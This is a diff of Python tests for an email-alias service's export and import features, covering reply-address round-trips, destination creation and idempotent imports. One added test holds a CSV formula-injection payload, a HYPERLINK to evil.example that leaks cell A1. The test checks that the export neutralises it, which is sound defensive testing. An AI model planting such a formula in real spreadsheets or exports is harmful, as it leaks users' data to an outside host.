@@ -131,12 +131,15 @@ def test_export_then_delete_everything_then_import_the_export(alice: Client, ali
     assert document["format"] == "postmask/1"
     by_address = {alias["address"]: alias for alias in document["aliases"]}
     assert by_address[first["address"]]["display_name"] == "Shop Me"
-    assert [(c["email"], c["name"], c["blocked"]) for c in by_address[first["address"]]["contacts"]] == [
-        ("one@outside.example", "One", False),
-        ("two@outside.example", None, True),
-    ]  # oldest first; no reply address, no counts: an import gives new ones
-    assert all(alias["contacts"] == [] for alias in document["aliases"] if alias["address"] != first["address"])
     before_contacts = alice.get(contacts_path).json()["items"]
+    reply_of = {c["email"]: c["reply_address"] for c in before_contacts}
+    assert [
+        (c["email"], c["name"], c["blocked"], c["reply_address"]) for c in by_address[first["address"]]["contacts"]
+    ] == [
+        ("one@outside.example", "One", False, reply_of["one@outside.example"]),
+        ("two@outside.example", None, True, reply_of["two@outside.example"]),
+    ]  # oldest first, with their reply addresses; no counts
+    assert all(alias["contacts"] == [] for alias in document["aliases"] if alias["address"] != first["address"])
     assert [domain["name"] for domain in document["domains"]] == [alice_domain]
 
     ids = list(before_aliases)
@@ -151,20 +154,19 @@ def test_export_then_delete_everything_then_import_the_export(alice: Client, ali
 
     assert (result["created"], result["skipped"], result["errors"]) == (len(ids), 0, [])
     after = aliases_of(alice)
-    fields = ("destinations", "note", "enabled", "expires_at", "display_name")
+    fields = ("destinations", "note", "enabled", "expires_at", "display_name", "site", "block_foreign_senders")
     assert {a: {f: v[f] for f in fields} for a, v in after.items()} == {
         a: {f: v[f] for f in fields} for a, v in before_aliases.items()
     }
-    assert set(destinations_of(alice)) == set(before_destinations)  # the same addresses, pending again
+    # The same addresses, pending again; but the spare one no alias uses: an import creates only the destinations
+    # its aliases use (issue 25: no verification link to an address for nothing).
+    assert set(destinations_of(alice)) == set(before_destinations) - {"spare@real.example"}
     new_first = after[first["address"]]["id"]
     contacts_after = alice.get(f"/api/aliases/{new_first}/contacts").json()["items"]
-    assert sorted((c["email"], c["name"], c["blocked"]) for c in contacts_after) == [
-        ("one@outside.example", "One", False),
-        ("two@outside.example", None, True),
-    ]
-    assert {c["reply_address"] for c in contacts_after}.isdisjoint(
-        c["reply_address"] for c in before_contacts
-    )  # new reply addresses: the old ones went with the deleted alias
+    assert sorted((c["email"], c["name"], c["blocked"], c["reply_address"]) for c in contacts_after) == [
+        ("one@outside.example", "One", False, reply_of["one@outside.example"]),
+        ("two@outside.example", None, True, reply_of["two@outside.example"]),
+    ]  # the same reply addresses: they were this alias address's, and are again
     # Importing the same file again: everything is there already.
     again = import_(alice, exported.body.decode(), JSON)
     assert (again["created"], again["skipped"], again["errors"], again["new_destinations"]) == (0, len(ids), [], [])
@@ -215,6 +217,22 @@ def test_the_csv_export_imports_back(alice: Client, alice_domain: str) -> None:
         "enabled": False,
         "expires_at": "2031-01-01T00:00:00.000Z",
     }
+
+
+def test_a_formula_in_a_note_leaves_the_csv_harmless_and_comes_back_as_it_was(
+    alice: Client, alice_domain: str, mail: SesRecorder
+) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    body = {"domain": alice_domain, "local_part": "f", "destinations": ["me@real.example"], "note": formula}
+    response = alice.post("/api/aliases", body)
+    assert response.status == 201
+    exported = alice.get("/api/export", query={"format": "csv"}).body.decode()
+    assert ",\"'=HYPERLINK(" in exported  # a spreadsheet shows it as text
+    assert alice.delete(f"/api/aliases/{response.json()['id']}").status == 204
+
+    assert import_(alice, exported)["created"] == 1
+    (back,) = aliases_of(alice).values()
+    assert back["note"] == formula
 
 
 def test_an_export_holds_only_the_callers_data_and_comes_compressed_when_asked(
@@ -480,3 +498,47 @@ def test_a_retried_import_with_an_idempotency_key_answers_the_same(alice: Client
     assert first.json()["created"] == 3
     assert again.json() == first.json()  # not "skipped: 3": the first answer, replayed
     assert again.header("Idempotent-Replayed") == "true"
+
+
+def test_an_import_creates_only_the_destinations_its_aliases_use(
+    alice: Client, alice_domain: str, mail: SesRecorder
+) -> None:
+    listed = [f"listed{number}@outside.example" for number in range(40)]
+    export = {
+        "format": "postmask/1",
+        "exported_at": "2026-12-01T00:00:00Z",
+        "domains": [],
+        "destinations": [{"email": address} for address in listed],
+        "aliases": [
+            {"address": "one@alice.example", "destinations": ["used@outside.example"]},
+            {"address": "two@elsewhere.example", "destinations": ["unused@outside.example"]},  # refused row
+        ],
+    }
+
+    result = import_(alice, json.dumps(export), headers={"Content-Type": "application/json"})
+
+    assert result["created"] == 1
+    assert result["new_destinations"] == ["used@outside.example"]
+    assert destinations_of(alice) == {"used@outside.example": "pending"}
+    assert [mail.system_to(address) for address in [*listed, "unused@outside.example"]] == [[]] * 41
+    assert len(mail.system_to("used@outside.example")) == 1
+
+
+def test_an_import_whose_rows_all_fail_mails_nobody(alice: Client, alice_domain: str, mail: SesRecorder) -> None:
+    export = {
+        "format": "postmask/1",
+        "exported_at": "2026-12-01T00:00:00Z",
+        "domains": [],
+        "destinations": [{"email": f"box{number}@outside.example"} for number in range(10)],
+        "aliases": [
+            {"address": f"a{number}@foreign.example", "destinations": [f"box{number}@outside.example"]}
+            for number in range(10)
+        ],
+    }
+
+    result = import_(alice, json.dumps(export), headers={"Content-Type": "application/json"})
+
+    assert result["created"] == 0
+    assert len(result["errors"]) == 10
+    assert destinations_of(alice) == {}
+    assert mail.system == []
